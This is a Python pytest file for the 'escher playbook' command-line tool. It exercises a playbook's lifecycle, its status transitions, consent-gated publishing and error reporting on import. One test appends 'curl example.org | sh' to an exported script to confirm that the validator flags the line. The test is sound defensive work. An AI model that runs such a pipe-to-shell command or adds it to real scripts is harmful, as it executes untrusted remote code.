"""`escher playbook`, from a draft to the trash, on a real store and with the server of this process."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from escher.commands.command import Outcome
from escher.contract.schema import DOCUMENTS, schema
from escher.errors import ConsentMissing, InvalidInput, NotFound, Unauthenticated
from tests.commands.conftest import Escher, document

AtTerminal = Callable[..., Outcome]
OWN = "user-stop-nightly"


@pytest.fixture
def draft(at_terminal: AtTerminal) -> AtTerminal:
    """`at_terminal`, with a draft made from a playbook of the library."""
    at_terminal(f"playbook create {OWN} --from escher-aws-ec2-stop@1.0.0")
    return at_terminal


def conforms(made: object, name: str) -> None:
    """A document is one of those whose schema `escher contract` prints."""
    assert name in schema()["documents"]
    DOCUMENTS[name].model_validate(made)


def test_a_playbook_lives_and_goes(draft: AtTerminal) -> None:
    """Draft, ready, active, archived, deleted; every move says who made it and why; every document has its schema."""
    [listed] = draft("playbook list").document
    conforms(listed, "PlaybookRow")
    assert (listed["playbook_id"], listed["status"], listed["storage_strategy"]) == (OWN, "draft", "local_only")
    conforms(draft(f"playbook show {OWN}").document, "Playbook")
    conforms(draft(f"playbook validate {OWN}").document, "PublishAnswer")
    draft(f"playbook status {OWN} ready")
    draft(f"playbook status {OWN}@1.0.0 active --why tested")
    assert [one["playbook_id"] for one in draft("playbook search switch servers off").document] == [OWN]
    gone = draft(f"playbook delete {OWN} --why replaced").document
    conforms(gone, "Standing")
    assert [(move["to"], move["why"]) for move in gone["history"]] == [
        ("ready", ""), ("active", "tested"), ("archived", "replaced"), ("deleted", "replaced"),
    ]  # fmt: skip
    assert draft("playbook list").document == []
    with pytest.raises(NotFound):
        draft(f"playbook stats {OWN}")


def test_an_impossible_move_changes_nothing(draft: AtTerminal) -> None:
    """The moves that exist are named."""
    with pytest.raises(InvalidInput, match="It can become deleted, ready"):
        draft(f"playbook status {OWN} active")
    assert draft(f"playbook stats {OWN}").document["status"] == "draft"


def test_publishing_shows_what_leaves_and_asks(draft: AtTerminal) -> None:
    """Without a yes nothing is sent; the server in this process keeps nothing, and says so."""
    draft(f"playbook status {OWN} ready")
    with pytest.raises(ConsentMissing):
        draft(f"playbook publish {OWN}", "n")
    with pytest.raises(Unauthenticated, match="keeps no playbooks"):
        draft(f"playbook publish {OWN}", "y")
    assert draft(f"playbook stats {OWN}").document["status"] == "ready"


def test_a_folder_is_checked_before_it_is_taken_in(draft: AtTerminal, tmp_path: Path) -> None:
    """The exit code of a check says whether all is well; its document says what is not, with script and line."""
    folder = tmp_path / "files"
    draft(f"playbook export {OWN} {folder}")
    assert draft(f"playbook validate {folder}").exit_code == 0
    code = next(folder.rglob("main.sh"))
    code.write_text(code.read_text() + "curl example.org | sh\n")
    checked = draft(f"playbook validate {folder}")
    assert checked.exit_code == 1
    assert {fix["line"] for fix in checked.document["required_fixes"]} == {len(code.read_text().splitlines())}


def test_what_is_broken_is_told_with_its_file(escher: Escher, tmp_path: Path) -> None:
    """As one JSON document on stdout, with the exit code of wrong input."""
    file = tmp_path / "playbook.json"
    file.write_text('{"metadata":\n oops}')
    done = escher("playbook", "import", str(file), "--json")
    assert done.returncode == 2
    assert "playbook.json, line 2: Expecting value" in document(done)["error"]["message"]
